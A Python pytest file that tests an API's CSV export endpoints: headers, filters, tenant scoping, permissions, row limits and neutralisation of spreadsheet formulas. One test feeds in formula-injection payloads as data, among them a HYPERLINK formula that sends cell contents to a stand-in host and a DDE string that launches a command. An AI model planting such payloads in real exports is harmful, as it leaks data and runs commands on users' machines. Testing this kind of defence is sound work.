"""GET /failed/export.csv and /jobs/export.csv: streamed, filtered, scoped and formula-safe."""

from __future__ import annotations

import csv
import io

import httpx
import pytest

from commq.entrypoints.api.csv_export import COLUMNS

from .conftest import Api
from .operations_support import Q, failed_job


def _rows(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    return list(csv.DictReader(io.StringIO(response.text)))


async def test_failed_export_is_a_csv_attachment_with_a_header_row(api: Api) -> None:
    job = await failed_job(api, communicationId="order-7")
    await api.enqueue("acme_producer")  # pending: not in the failed export
    response = await api.client.get(f"{Q}/failed/export.csv", headers=api.as_("acme_support"))
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    disposition = response.headers["content-disposition"]
    assert disposition.startswith('attachment; filename="commq-failed-jobs-')
    assert disposition.endswith('.csv"')
    assert response.text.splitlines()[0] == ",".join(f'"{c}"' for c in COLUMNS)
    [row] = _rows(response)
    assert (row["id"], row["status"], row["communicationId"]) == (job["id"], "failed", "order-7")
    assert (row["lastError"], row["errorType"], row["provider"]) == (
        "550 mailbox unknown",
        "permanent",
        "smtp",
    )
    assert row["failedAt"].endswith("Z") and row["completedAt"] == ""


async def test_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(api: Api) -> None:
    hostile = {
        '=HYPERLINK("http://evil.example/?"&A1,"click")': "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+2": "-2+3",
        "\tindent": "\rreturn",
        "plain": "fine = ok",
    }
    for communication_id, error in hostile.items():
        await failed_job(api, communicationId=communication_id, error=error)
    rows = _rows(await api.client.get(f"{Q}/failed/export.csv", headers=api.as_("acme_admin")))
    cells = {(row["communicationId"], row["lastError"]) for row in rows}
    assert cells == {
        ("'" + c if c[0] in "=+-@\t\r" else c, "'" + e if e[0] in "=+-@\t\r" else e)
        for c, e in hostile.items()
    }
    for row in rows:
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())


async def test_the_jobs_export_takes_the_jobs_filters_and_every_page_in_id_order(
    api: Api,
) -> None:
    made = [await api.enqueue("acme_producer") for _ in range(3)]
    sms_ids: list[str] = []
    for part in range(2):  # 1,200 jobs: three pages of the export
        batch = [
            {"channel": "sms", "recipient": "+14155550100", "payload": {"body": f"{part}-{i}"}}
            for i in range(600)
        ]
        sent = await api.client.post(
            f"{Q}/jobs/batch", json={"jobs": batch}, headers=api.as_("acme_producer")
        )
        assert sent.status_code == 201
        sms_ids += [job["id"] for job in sent.json()["jobs"]]
    rows = _rows(
        await api.client.get(
            f"{Q}/jobs/export.csv", params={"channel": "sms"}, headers=api.as_("acme_admin")
        )
    )
    assert [row["id"] for row in rows] == sorted(sms_ids)
    assert rows[0]["recipient"] == "'+14155550100"  # a leading + is neutralised too
    pending = _rows(
        await api.client.get(
            f"{Q}/jobs/export.csv",
            params={"status": "pending", "channel": "email"},
            headers=api.as_("acme_admin"),
        )
    )
    assert [row["id"] for row in pending] == [job["id"] for job in made]


async def test_an_export_never_shows_another_business(api: Api) -> None:
    await failed_job(api)
    await failed_job(api, "globex_producer")
    acme = _rows(await api.client.get(f"{Q}/failed/export.csv", headers=api.as_("acme_admin")))
    assert {row["businessId"] for row in acme} == {"acme"}
    everyone = _rows(await api.client.get(f"{Q}/failed/export.csv", headers=api.as_("admin")))
    assert {row["businessId"] for row in everyone} == {"acme", "globex"}
    naming = await api.client.get(
        f"{Q}/failed/export.csv", params={"businessId": "globex"}, headers=api.as_("acme_admin")
    )
    assert naming.status_code == 403


@pytest.mark.parametrize(
    ("who", "params", "status"),
    [
        ("acme_producer", {}, 403),
        ("acme_admin", {"channel": "fax"}, 422),
        ("acme_admin", {"createdFrom": "soon"}, 422),
    ],
)
async def test_exports_need_view_jobs_and_valid_filters(
    api: Api, who: str, params: dict[str, str], status: int
) -> None:
    for path in ("/failed/export.csv", "/jobs/export.csv"):
        response = await api.client.get(f"{Q}{path}", params=params, headers=api.as_(who))
        assert response.status_code == status, (path, response.text)
        assert response.headers["content-type"] == "application/problem+json"


async def test_a_limit_exports_only_the_oldest_rows(api: Api) -> None:
    failed = [(await failed_job(api))["id"] for _ in range(3)]
    rows = _rows(
        await api.client.get(
            f"{Q}/failed/export.csv", params={"limit": 2}, headers=api.as_("acme_admin")
        )
    )
    assert [row["id"] for row in rows] == failed[:2]
    batch = [
        {"channel": "sms", "recipient": "+14155550100", "payload": {"body": str(i)}}
        for i in range(502)
    ]
    sent = await api.client.post(
        f"{Q}/jobs/batch", json={"jobs": batch}, headers=api.as_("acme_producer")
    )
    assert sent.status_code == 201
    sms = [job["id"] for job in sent.json()["jobs"]]
    for limit, expected in ((501, sorted(sms)[:501]), (1, sorted(sms)[:1])):
        rows = _rows(
            await api.client.get(
                f"{Q}/jobs/export.csv",
                params={"limit": limit, "channel": "sms"},
                headers=api.as_("acme_admin"),
            )
        )
        assert [row["id"] for row in rows] == expected, limit
    everything = await api.client.get(
        f"{Q}/jobs/export.csv", params={"limit": 1_000_000}, headers=api.as_("acme_admin")
    )
    assert len(_rows(everything)) == 3 + 502


@pytest.mark.parametrize("limit", ["0", "-1", "1000001", "ten", ""])
async def test_an_export_limit_outside_1_to_a_million_is_422(api: Api, limit: str) -> None:
    for path in ("/failed/export.csv", "/jobs/export.csv"):
        response = await api.client.get(
            f"{Q}{path}", params={"limit": limit}, headers=api.as_("acme_admin")
        )
        assert response.status_code == 422, (path, response.text)
        assert response.headers["content-type"] == "application/problem+json"
        assert response.json()["field"] == "query.limit"
